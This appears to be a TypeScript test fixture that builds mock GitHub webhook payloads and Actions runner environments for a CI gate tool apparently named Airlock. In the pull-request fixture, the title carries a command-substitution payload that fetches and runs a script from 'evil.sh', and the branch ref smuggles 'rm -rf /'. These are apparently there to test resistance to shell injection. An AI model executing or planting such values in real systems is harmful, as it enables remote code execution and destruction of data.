/**
 * Minimal but real-shaped webhook payloads and runner environments (field names
 * and nesting as GitHub sends them: docs "Webhook events and payloads").
 */
export const BASE_SHA = '1111111111111111111111111111111111111111';
export const HEAD_SHA = '2222222222222222222222222222222222222222';
export const MERGE_SHA = '3333333333333333333333333333333333333333';

const repo = (fullName: string, fork: boolean) => ({
  id: 1296269,
  name: fullName.split('/')[1],
  full_name: fullName,
  private: false,
  fork,
  owner: { login: fullName.split('/')[0], type: 'Organization' },
  default_branch: 'main',
});

export function pullRequestPayload(
  opts: { headRepo?: string | null; action?: string; number?: number } = {},
) {
  const number = opts.number ?? 42;
  const headRepo = opts.headRepo === undefined ? 'octo-org/octo-repo' : opts.headRepo;
  return {
    action: opts.action ?? 'opened',
    number,
    pull_request: {
      url: `https://api.github.com/repos/octo-org/octo-repo/pulls/${number}`,
      id: 1,
      number,
      state: 'open',
      title: 'Add analysis script $(curl evil.sh | sh)',
      user: { login: 'contributor' },
      head: {
        label: `${headRepo?.split('/')[0] ?? 'ghost'}:feature/plot`,
        ref: 'feature/plot; rm -rf /',
        sha: HEAD_SHA,
        repo: headRepo === null ? null : repo(headRepo, headRepo !== 'octo-org/octo-repo'),
      },
      base: { label: 'octo-org:main', ref: 'main', sha: BASE_SHA, repo: repo('octo-org/octo-repo', false) },
      merge_commit_sha: MERGE_SHA,
    },
    repository: repo('octo-org/octo-repo', false),
    sender: { login: 'contributor' },
  };
}

export function pushPayload() {
  return {
    ref: 'refs/heads/main',
    before: BASE_SHA,
    after: HEAD_SHA,
    commits: [{ id: HEAD_SHA, message: 'Add plot script' }],
    head_commit: { id: HEAD_SHA },
    repository: repo('octo-org/octo-repo', false),
    pusher: { name: 'maintainer' },
    sender: { login: 'maintainer' },
  };
}

export function workflowDispatchPayload() {
  return {
    inputs: { paths: 'analysis/' },
    ref: 'refs/heads/main',
    repository: repo('octo-org/octo-repo', false),
    sender: { login: 'maintainer' },
    workflow: '.github/workflows/airlock-gate.yml',
  };
}

export function workflowRunPayload(opts: { pullRequests?: number[]; headRepo?: string } = {}) {
  const headRepo = opts.headRepo ?? 'contributor/octo-repo';
  return {
    action: 'completed',
    workflow_run: {
      id: 30433642,
      name: 'Airlock PR',
      event: 'pull_request',
      status: 'completed',
      conclusion: 'success',
      head_branch: 'feature/plot',
      head_sha: HEAD_SHA,
      run_attempt: 1,
      pull_requests: (opts.pullRequests ?? []).map((n) => ({ id: n, number: n, url: '' })),
      head_repository: repo(headRepo, headRepo !== 'octo-org/octo-repo'),
      repository: repo('octo-org/octo-repo', false),
    },
    repository: repo('octo-org/octo-repo', false),
    sender: { login: 'contributor' },
  };
}

export function runnerEnv(eventName: string, over: Record<string, string> = {}): NodeJS.ProcessEnv {
  return {
    GITHUB_ACTIONS: 'true',
    GITHUB_EVENT_NAME: eventName,
    GITHUB_REPOSITORY: 'octo-org/octo-repo',
    GITHUB_SHA: eventName === 'pull_request' ? MERGE_SHA : BASE_SHA,
    GITHUB_REF: eventName === 'pull_request' ? 'refs/pull/42/merge' : 'refs/heads/main',
    GITHUB_SERVER_URL: 'https://github.com',
    GITHUB_API_URL: 'https://api.github.com',
    GITHUB_RUN_ID: '1658821493',
    GITHUB_RUN_ATTEMPT: '1',
    GITHUB_WORKFLOW: 'Airlock',
    GITHUB_ACTOR: 'contributor',
    GITHUB_WORKSPACE: '/home/runner/work/octo-repo/octo-repo',
    ...over,
  };
}
